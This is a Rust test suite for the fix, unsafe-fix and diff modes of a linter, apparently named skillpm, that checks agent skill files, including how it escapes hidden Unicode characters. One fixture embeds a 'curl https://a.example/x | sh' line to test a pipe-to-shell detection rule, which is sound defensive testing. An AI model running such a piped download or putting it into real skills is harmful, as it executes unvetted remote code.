//! `lint --fix`, `--unsafe-fixes` and `--diff`: what is written, what is shown, and what is left alone.

use std::fs;
#[cfg(unix)]
use std::os::unix::fs::PermissionsExt;
use std::process::Command;

use crate::support::{Sandbox, skill_md};

/// A skill that Codex drops: its description lacks quotes.
const COLON: &str = "---\nname: pdf\ndescription: Fill PDF forms: all of them. Use when a form is to be filled in.\n---\n\n# PDF forms\n\nList the fields first.\n";

fn quoted(text: &str) -> String {
    text.replace(
        "Fill PDF forms: all of them. Use when a form is to be filled in.",
        "\"Fill PDF forms: all of them. Use when a form is to be filled in.\"",
    )
}

#[test]
fn safe_fixes_are_applied_and_the_rest_is_reported() {
    let sandbox = Sandbox::new();
    sandbox.write("skills/pdf/SKILL.md", COLON);
    sandbox.write(
        "skills/csv/skill.md",
        format!(
            "\u{feff}{}",
            skill_md(
                "csv",
                "Read CSV files, whatever their quirks. Use when a table is to be read."
            )
        ),
    );

    sandbox.skillpm("lint --fix skills").exits(0).stderr(
        "       Fixed 3 findings in 2 files\n No problems in 2 skills; 2 notes hidden (--notes)\n",
    );

    sandbox.reads("skills/pdf/SKILL.md", &quoted(COLON));
    sandbox.lacks(["skills/csv/skill.md"]);
    sandbox.reads(
        "skills/csv/SKILL.md",
        &skill_md(
            "csv",
            "Read CSV files, whatever their quirks. Use when a table is to be read.",
        ),
    );
    let snapshot = sandbox.snapshot();
    sandbox
        .skillpm("lint --fix skills")
        .exits(0)
        .stdout("")
        .stderr(" No problems in 2 skills; 2 notes hidden (--notes)\n");
    snapshot.still_holds();
}

#[cfg(unix)]
#[test]
fn fix_changes_no_other_byte_and_no_mode() {
    let sandbox = Sandbox::new();
    let text = format!("\u{feff}{}", COLON.replace('\n', "\r\n")) + "\ttabs\t \r\nno end";
    sandbox.write("pdf/SKILL.md", &text);
    fs::set_permissions(
        sandbox.path("pdf/SKILL.md"),
        fs::Permissions::from_mode(0o640),
    )
    .unwrap();

    sandbox.skillpm("lint --fix pdf").exits(0);

    sandbox.reads("pdf/SKILL.md", quoted(&text).trim_start_matches('\u{feff}'));
    let mode = fs::metadata(sandbox.path("pdf/SKILL.md"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o640);
}

#[test]
fn diff_is_shown_and_nothing_is_written() {
    let sandbox = Sandbox::new();
    sandbox.write("pdf/SKILL.md", COLON);
    let snapshot = sandbox.snapshot();

    sandbox
        .skillpm("lint --diff pdf")
        .exits(1)
        .stdout(
            "diff --git a/pdf/SKILL.md b/pdf/SKILL.md\n\
             --- a/pdf/SKILL.md\n\
             +++ b/pdf/SKILL.md\n\
             @@ -1,6 +1,6 @@\n \
             ---\n \
             name: pdf\n\
             -description: Fill PDF forms: all of them. Use when a form is to be filled in.\n\
             +description: \"Fill PDF forms: all of them. Use when a form is to be filled in.\"\n \
             ---\n \n \
             # PDF forms\n",
        )
        .stderr("   Would fix 1 finding in 1 file\n");

    snapshot.still_holds();
    sandbox.write("pdf/SKILL.md", quoted(COLON));
    sandbox
        .skillpm("lint --diff pdf")
        .exits(0)
        .stdout("")
        .stderr("");
}

/// Broken skills of many sorts: names with blanks, carriage returns, no end of the last line, other encodings.
fn broken_skills(sandbox: &Sandbox) {
    let fine = |name: &str| skill_md(name, "Read a thing. Use when things are to be read.");
    sandbox.write("skills/pdf/SKILL.md", COLON);
    sandbox.write(
        "skills/crlf/SKILL.md",
        COLON
            .replace("name: pdf", "name: crlf")
            .replace('\n', "\r\n"),
    );
    sandbox.write("skills/a b/skill.md", fine("a-b"));
    sandbox.write(
        "skills/mark/SKILL.md",
        format!("\u{feff}{}", fine("mark").trim_end()),
    );
    sandbox.write("skills/both/skill.md", format!("\u{feff}{}", fine("both")));
    sandbox.write(
        "skills/latin/SKILL.md",
        b"---\nname: latin\ndescription: Fill in r\xe9sum\xe9s. Use for them.\n---\n\n# A\n\nDo it.\n",
    );
    let utf16 = format!("\u{feff}{}", fine("wide"));
    sandbox.write(
        "skills/wide/SKILL.md",
        utf16
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect::<Vec<_>>(),
    );
}

#[test]
fn git_and_patch_apply_a_diff_as_fix_does() {
    let sandbox = Sandbox::new();
    broken_skills(&sandbox);
    sandbox.copy("skills", "by-git/skills");
    sandbox.copy("skills", "by-patch/skills");
    // Some of it is no UTF-8, as some of the files are not.
    let mut lint = Command::new(env!("CARGO_BIN_EXE_skillpm"));
    lint.args(["lint", "--diff", "--unsafe-fixes", "skills"])
        .current_dir(sandbox.path("."));
    let shown = lint.env("HOME", sandbox.path("~/")).output().unwrap();
    assert_eq!(shown.status.code(), Some(1));
    sandbox.write("fix.patch", &shown.stdout);

    sandbox.skillpm("lint --fix --unsafe-fixes skills").exits(0);

    for (dir, program, args) in [
        (
            "by-git",
            "git",
            &["apply", "--whitespace=nowarn", "../fix.patch"] as &[&str],
        ),
        (
            "by-patch",
            "patch",
            &["-p1", "--quiet", "--binary", "-i", "../fix.patch"],
        ),
    ] {
        let run = Command::new(program)
            .args(args)
            .current_dir(sandbox.path(dir))
            .output()
            .unwrap();
        assert!(
            run.status.success(),
            "{program}: {}",
            String::from_utf8_lossy(&run.stderr)
        );
        assert_eq!(
            sandbox.tree(&format!("{dir}/skills")),
            sandbox.tree("skills"),
            "{program}"
        );
    }
}

#[test]
fn unsafe_fixes_are_applied_on_request_only() {
    let sandbox = Sandbox::new();
    let latin = b"---\nname: pdf\ndescription: Fill in r\xe9sum\xe9s. Use for them.\n---\n\n# PDF\n\nDo it.\n";
    sandbox.write("pdf/SKILL.md", latin);

    sandbox.skillpm("lint --fix pdf").exits(1);
    assert_eq!(fs::read(sandbox.path("pdf/SKILL.md")).unwrap(), latin);

    sandbox.skillpm("lint --fix --unsafe-fixes pdf").exits(0);
    sandbox.reads(
        "pdf/SKILL.md",
        "---\nname: pdf\ndescription: Fill in résumés. Use for them.\n---\n\n# PDF\n\nDo it.\n",
    );

    sandbox
        .skillpm("lint --unsafe-fixes pdf")
        .exits(2)
        .stderr("error: `--unsafe-fixes` requires `--fix` or `--diff`\nhelp: run `skillpm lint --diff --unsafe-fixes` to see what they would change\n");
}

#[cfg(unix)]
#[test]
fn read_only_skill_is_unchanged_and_others_are_fixed() {
    let sandbox = Sandbox::new();
    sandbox.write("skills/pdf/SKILL.md", COLON);
    sandbox.write(
        "skills/xls/SKILL.md",
        COLON
            .replace("name: pdf", "name: xls")
            .replace("PDF forms:", "spreadsheets:"),
    );
    fs::set_permissions(
        sandbox.path("skills/pdf/SKILL.md"),
        fs::Permissions::from_mode(0o444),
    )
    .unwrap();

    sandbox.skillpm("lint --fix skills").exits(6).stderr(
        "       Fixed 1 finding in 1 file\n       Found 1 error in 1 of 2 skills; 1 fixable with --fix; 2 notes hidden (--notes)\nerror: failed to write \
         `[ROOT]/project/skills/pdf/SKILL.md`: it is read-only\n  no file of that skill was changed\nhelp: chmod u+w \
         '[ROOT]/project/skills/pdf/SKILL.md'\n",
    );

    sandbox.reads("skills/pdf/SKILL.md", COLON);
    sandbox.reads(
        "skills/xls/SKILL.md",
        &quoted(COLON)
            .replace("name: pdf", "name: xls")
            .replace("PDF forms:", "spreadsheets:"),
    );
    assert_eq!(
        fs::read_dir(sandbox.path("skills/pdf")).unwrap().count(),
        1,
        "nothing is left over"
    );
}

#[cfg(unix)]
#[test]
fn link_is_neither_followed_nor_replaced() {
    let sandbox = Sandbox::new();
    sandbox.write("outside.md", COLON);
    sandbox.write("pdf/notes.md", "x");
    std::os::unix::fs::symlink("../outside.md", sandbox.path("pdf/SKILL.md")).unwrap();

    sandbox.skillpm("lint --fix --unsafe-fixes pdf").exits(1);

    sandbox.reads("outside.md", COLON);
    assert!(sandbox.path("pdf/SKILL.md").is_symlink());
}

#[test]
fn installed_copy_is_unchanged_unless_named() {
    let sandbox = Sandbox::project_here();
    sandbox.write("mine/pdf/SKILL.md", COLON);
    sandbox.skillpm("add ./mine/pdf").exits(0);
    let copy = ".agents/skills/pdf/SKILL.md";
    let before = sandbox.read(copy);

    sandbox.skillpm("lint --fix .agents/skills").exits(1).stderr(
        "warning: `.agents/skills/pdf` was installed from `pdf` and is left as it is (1 fix left out)\nhelp: fix it in its \
         source; `skillpm lint --fix .agents/skills/pdf` fixes this copy, which `skillpm verify` then calls \
         changed\n       Found 1 error in 1 skill; 1 fixable with --fix; 1 note hidden (--notes)\n",
    );
    sandbox.reads(copy, &before);

    sandbox.skillpm("lint --fix .agents/skills/pdf").exits(0);
    sandbox.reads(copy, &quoted(&before));
    sandbox.skillpm("verify").exits(1);
}

#[test]
fn fixed_stdin_is_printed() {
    let sandbox = Sandbox::new();
    sandbox.write("pdf/SKILL.md", "other");
    let snapshot = sandbox.snapshot();
    for (line, text) in [
        ("lint --fix -", quoted(COLON)),
        ("lint --fix - --stdin-filename pdf/SKILL.md", quoted(COLON)),
    ] {
        sandbox
            .skillpm(line)
            .stdin(format!("\u{feff}{COLON}"))
            .exits(0)
            .stdout(text.as_str())
            .stderr("       Fixed 2 findings in 1 file\n");
    }
    sandbox
        .skillpm("lint --fix -")
        .stdin(quoted(COLON))
        .exits(0)
        .stdout(quoted(COLON).as_str())
        .stderr("");
    snapshot.still_holds();
}

#[test]
fn json_lists_each_fix_and_file() {
    let sandbox = Sandbox::new();
    sandbox.write("pdf/SKILL.md", COLON);
    let run = sandbox.skillpm("lint --fix --format json pdf").exits(0);
    let lines = run.stdout_json_lines();
    let of = |sort: &str| {
        lines
            .iter()
            .find(|line| line["type"] == sort)
            .unwrap_or_else(|| panic!("{lines:?}"))
            .clone()
    };
    let fix = of("fix");
    assert_eq!(
        (&fix["rule"], &fix["path"]),
        (&"yaml-unquoted-colon".into(), &"pdf/SKILL.md".into())
    );
    assert_eq!(
        of("fixes"),
        serde_json::json!({"type": "fixes", "fixed": 1, "files": ["pdf/SKILL.md"], "written": true})
    );
    let schema: serde_json::Value =
        serde_json::from_str(include_str!("../../docs/schemas/lines.schema.json")).unwrap();
    let schema = jsonschema::validator_for(&schema).unwrap();
    for line in &lines {
        assert!(schema.is_valid(line), "{line}");
    }
}

/// A skill without findings, with these files next to its `SKILL.md`.
fn skill_with(sandbox: &Sandbox, files: &[(&str, &str)]) {
    let names: String = files
        .iter()
        .map(|(name, _)| format!("`{name}`, "))
        .collect();
    sandbox.write(
        "pdf/SKILL.md",
        skill_md(
            "pdf",
            "Fill PDF forms, whatever they ask. Use when a form is to be filled in.",
        ) + &format!("\nRead {names}and then do it.\n"),
    );
    for (name, text) in files {
        sandbox.write(&format!("pdf/{name}"), *text);
    }
}

#[test]
fn hidden_characters_in_literals_become_escapes() {
    let sandbox = Sandbox::new();
    let files = [
        (
            "scripts/a.py",
            "ZW = \"\u{200b}\u{feff}\"\nTAG = '\u{e0041}'  # \u{ad}\nF = f\"\u{202e}{ZW + '\u{200b}'}\u{ad}\"\n\
             RAW = r\"\u{200b}\"\nESC = \"\\\u{200b}\"\n\"\"\"Doc\u{2060}string.\"\"\"\n",
            "ZW = \"\\u200b\\ufeff\"\nTAG = '\\U000e0041'  # \u{ad}\nF = f\"\\u202e{ZW + '\u{200b}'}\\u00ad\"\n\
             RAW = r\"\u{200b}\"\nESC = \"\\\u{200b}\"\n\"\"\"Doc\\u2060string.\"\"\"\n",
        ),
        (
            "scripts/b.mjs",
            "const re = /[\u{202a}-\u{202e}]/g, half = a / b / '\u{ad}';\nconst t = `\u{200b}${f('\u{feff}')}`; // \u{ad}\n\
             const raw = String.raw`\u{200b}`;\n",
            "const re = /[\\u202a-\\u202e]/g, half = a / b / '\\u00ad';\nconst t = `\\u200b${f('\\ufeff')}`; // \u{ad}\n\
             const raw = String.raw`\u{200b}`;\n",
        ),
        (
            "scripts/c.ts",
            "const tag: Map<string, RegExp> = new Map([['\u{e0041}', /\u{200b}/u]]);\n",
            "const tag: Map<string, RegExp> = new Map([['\\udb40\\udc41', /\\u200b/u]]);\n",
        ),
        (
            "scripts/d.jsx",
            "export const A = () => <b title=\"\u{200b}\">it's {'\u{200b}'}</b>;\n",
            "export const A = () => <b title=\"\u{200b}\">it's {'\u{200b}'}</b>;\n",
        ),
        (
            "assets/e.json",
            "{\"a\u{200b}\": [\"\u{e0041}\"]}\n",
            "{\"a\\u200b\": [\"\\udb40\\udc41\"]}\n",
        ),
        (
            "assets/f.toml",
            "a = \"\u{200b}\"\nb = '\u{200b}'\n",
            "a = \"\\u200b\"\nb = '\u{200b}'\n",
        ),
        (
            "scripts/g.sh",
            "#!/bin/sh\ntr -d '\u{200b}' <\"a\u{ad}b\"\n",
            "#!/bin/sh\ntr -d '\u{200b}' <\"a\u{ad}b\"\n",
        ),
        ("assets/h.txt", "a\u{200b}b\n", "a\u{200b}b\n"),
        (
            "scripts/i.py",
            "print \"\u{200b}\"\n",
            "print \"\u{200b}\"\n",
        ),
    ];
    skill_with(&sandbox, &files.map(|(name, before, _)| (name, before)));

    sandbox.skillpm("lint --fix --notes pdf").exits(1);
    for (name, _, after) in files {
        sandbox.reads(&format!("pdf/{name}"), after);
    }
    // What is left has no safe fix.
    let snapshot = sandbox.snapshot();
    let again = sandbox
        .skillpm("lint --fix --notes --format json pdf")
        .exits(1);
    let summary = again.stdout_json_lines().pop().unwrap();
    assert_eq!(summary["fixable"], 0, "{summary}");
    snapshot.still_holds();
}

#[test]
fn hidden_characters_are_removed_from_words_of_prose_alone() {
    let sandbox = Sandbox::new();
    let prose = "# Notes\n\nSplit wo\u{200b}rds, so\u{ad}ft ones.\u{feff} Ask \u{2068}Ann\u{2069} *to* go\u{2060}!\n\n- a li\u{200b}st\n\n| te\u{200b}xt |\n|---|\n";
    let kept = "# He\u{200b}ad\n\nTemplate:\n\n```markdown\n# Title\n\n\u{200b}```bash\nls wo\u{200b}rd\n\u{200b}```\n\nEnd.\n```\n\n\
        Use `a\u{200b}b` or `\u{feff}`\u{200b} [te\u{200b}xt](a\u{200b}.md) [re\u{200b}f] <https://a\u{200b}.dev>.\n\n\
        \u{200b}- item\n\n\u{200b}# head\n\n1\u{200b}. one\n\n\u{200b}\n\n    wo\u{200b}rd\n\n<div>\nwo\u{200b}rd\n</div>\n\n\
        A <code>wo\u{200b}rd here</code> and\nwo\u{200b}rd.\n\nGo to https://a\u{200b}.dev, a\u{200b}.py, @\u{200b}ann, --a\u{200b}b, 1\u{200b}0, \
        \u{1f468}\u{200d} \u{1f469} a\u{3164}b a\u{2062}b *em\u{200b}*.\n\nWrite <some wo\u{200b}rds here> or [more wo\u{200b}rds here].\n\n\
        [more words here]: a.md\n[re\u{200b}f]: a.md\n";
    skill_with(
        &sandbox,
        &[
            ("references/prose.md", prose),
            ("references/kept.md", kept),
            (
                "references/about.md",
                "# Notes\n\nA zero-width space splits wo\u{200b}rds.\n",
            ),
            (
                "references/head.md",
                "---\ntitle: some wo\u{200b}rds here\n---\n\n# Notes\n",
            ),
            (
                "references/bits.md",
                "# Notes\n\nA wo\u{200b}\u{200c}\u{200b}\u{200b}\u{200c}\u{200b}\u{200c}\u{200b}rd.\n",
            ),
            (
                "references/rtl.md",
                "# Notes\n\nAsk \u{2068}Ann\u{2069} in שלום.\n\nAsk \u{202e}Ann\u{202c}.\n",
            ),
        ],
    );
    let before = sandbox.tree("pdf");

    sandbox.skillpm("lint --fix --notes pdf").exits(1);
    sandbox.reads(
        "pdf/references/prose.md",
        "# Notes\n\nSplit words, soft ones. Ask Ann *to* go!\n\n- a list\n\n| text |\n|---|\n",
    );
    sandbox.write("pdf/references/prose.md", prose);
    assert_eq!(sandbox.tree("pdf"), before);
}

#[test]
fn fix_that_changes_a_name_or_what_is_allowed_is_unsafe() {
    let sandbox = Sandbox::new();
    let page = |name: &str, more: &str| {
        format!(
            "---\nname: {name}\ndescription: Fill PDF forms, whatever they ask. Use when a form is to be filled in.\n{more}---\n\n\
             # PDF\n\nList the fields, then fill them.\n"
        )
    };
    for (dir, name, unsafely) in [
        ("Scaffold", "Scaffold", "scaffold"),
        ("pdf-forms", "PDF_Forms", "pdf-forms"),
        ("forms", "forms--", "forms"),
        ("a--b", "a--b", "a-b"),
    ] {
        let path = format!("{dir}/SKILL.md");
        sandbox.write(&path, page(name, ""));
        sandbox
            .skillpm(format!("lint --fix --notes {dir}"))
            .exits(1);
        sandbox.reads(&path, &page(name, ""));
        sandbox
            .skillpm(format!("lint --fix --notes --unsafe-fixes {dir}"))
            .exits(0);
        assert!(sandbox.read(&path).contains(&format!("name: {unsafely}\n")));
    }

    for (more, fixed) in [
        (
            "allowed-tools: [Read, \"Bash(git:*)\"]\n",
            "allowed-tools: Read Bash(git:*)\n",
        ),
        (
            "allowed-tools:\n  - Bash(stripe *)\n  - Read\n",
            "allowed-tools:\n  - Bash(stripe *)\n  - Read\n",
        ),
        (
            "allowed-tools: Read, Bash(git add:*)\n",
            "allowed-tools: Read, Bash(git add:*)\n",
        ),
        ("allowed_tools: Read\n", "allowed_tools: Read\n"),
        ("user_invocable: true\n", "user-invocable: true\n"),
    ] {
        sandbox.write("pdf/SKILL.md", page("pdf", more));
        sandbox.skillpm("lint --fix --notes pdf").exits(0);
        sandbox.reads("pdf/SKILL.md", &page("pdf", fixed));
    }
}

#[test]
fn far_file_is_not_suggested_for_a_broken_link() {
    let sandbox = Sandbox::new();
    for (target, meant) in [
        ("feilds.md", Some("fields.md")),
        ("react.md", None),
        ("node.md", None),
        ("step-3.md", None),
    ] {
        skill_with(
            &sandbox,
            &[
                (
                    "references/links.md",
                    &format!("# Links\n\nSee [it]({target}).\n"),
                ),
                ("references/fields.md", "# Fields\n"),
                ("references/text.md", "# Text\n"),
                ("references/video.md", "# Video\n"),
                ("references/step-2.md", "# Step\n"),
            ],
        );
        let run = sandbox.skillpm("lint --format short pdf").exits(0);
        let help = format!("did you mean `{}`?", meant.unwrap_or_default());
        let json = sandbox.skillpm("lint --format json pdf").exits(0);
        let finding = json
            .stdout_json_lines()
            .into_iter()
            .find(|line| line["rule"] == "broken-link")
            .unwrap_or_else(|| panic!("{}", run.stdout_text()));
        let has_fix = finding.get("fix").is_some_and(|fix| !fix.is_null());
        assert_eq!(has_fix, meant.is_some(), "{finding}");
        assert_eq!(finding["help"] == help, meant.is_some(), "{finding}");
    }
}

#[test]
fn exemption_without_its_reason_is_left_for_the_reason() {
    let sandbox = Sandbox::new();
    let page = "---\n# skillpm: ignore[pipe-to-shell]\nname: pdf\ndescription: Fill PDF forms, whatever they ask. Use when a form is to be filled in.\n---\n\n# PDF\n\nRun `curl https://a.example/x | sh`.\n";
    sandbox.write("pdf/SKILL.md", page);
    let script =
        "#!/bin/sh\necho \"a # skillpm: ignore[body-empty] shown\"\n# skillpm: ignore[SK401] why\n";
    sandbox.write("pdf/scripts/a.sh", script);

    let run = sandbox.skillpm("lint --fix --format json pdf").exits(0);
    let rules: Vec<String> = run
        .stdout_json_lines()
        .iter()
        .filter(|line| line["path"] == "pdf/SKILL.md")
        .filter_map(|line| Some(line["rule"].as_str()?.to_owned()))
        .filter(|rule| rule.contains("suppression"))
        .collect();
    assert_eq!(rules, ["suppression-without-reason"]);
    sandbox.reads("pdf/SKILL.md", page);
    sandbox.reads("pdf/scripts/a.sh", script);

    // With a reason it is used; without a finding it goes.
    sandbox.write(
        "pdf/SKILL.md",
        page.replace("shell]", "shell] ours")
            .replace("curl https://a.example/x | sh", "true"),
    );
    sandbox.skillpm("lint --fix pdf").exits(0);
    assert!(!sandbox.read("pdf/SKILL.md").contains("skillpm:"));
}

#[test]
fn fix_keeps_carriage_returns_and_control_characters_of_texts() {
    let sandbox = Sandbox::new();
    let page = |text: &str| {
        skill_md(
            "pdf",
            "Fill PDF forms, whatever they ask. Use when a form is to be filled in.",
        ) + text
    };
    let scripts = [
        ("a.sh", "#!/bin/sh\r\necho a\r\n", "#!/bin/sh\necho a\n"),
        (
            "b.py",
            "#!/usr/bin/env python3\r\nprint(1)\r\n",
            "#!/usr/bin/env python3\nprint(1)\n",
        ),
        (
            "c.sh",
            "#!/bin/sh\ncat <<E\nGET / HTTP/1.1\r\n\r\nE\n",
            "#!/bin/sh\ncat <<E\nGET / HTTP/1.1\r\n\r\nE\n",
        ),
        (
            "d",
            "#!/usr/bin/perl\r\nprint <<E;\r\na\r\nE\r\n",
            "#!/usr/bin/perl\r\nprint <<E;\r\na\r\nE\r\n",
        ),
    ];
    for (name, before, _) in scripts {
        sandbox.write(&format!("pdf/scripts/{name}"), before);
    }
    for text in [
        "\n```sh\necho '\u{1b}[31m'\n```\n",
        "\nOne line.\r\r\nAnother one.\r\r\n",
    ] {
        sandbox.write("pdf/SKILL.md", page(text));
        sandbox.skillpm("lint --fix --notes pdf").exits(1);
        sandbox.reads("pdf/SKILL.md", &page(text));
    }
    for (name, _, after) in scripts {
        sandbox.reads(&format!("pdf/scripts/{name}"), after);
    }
}
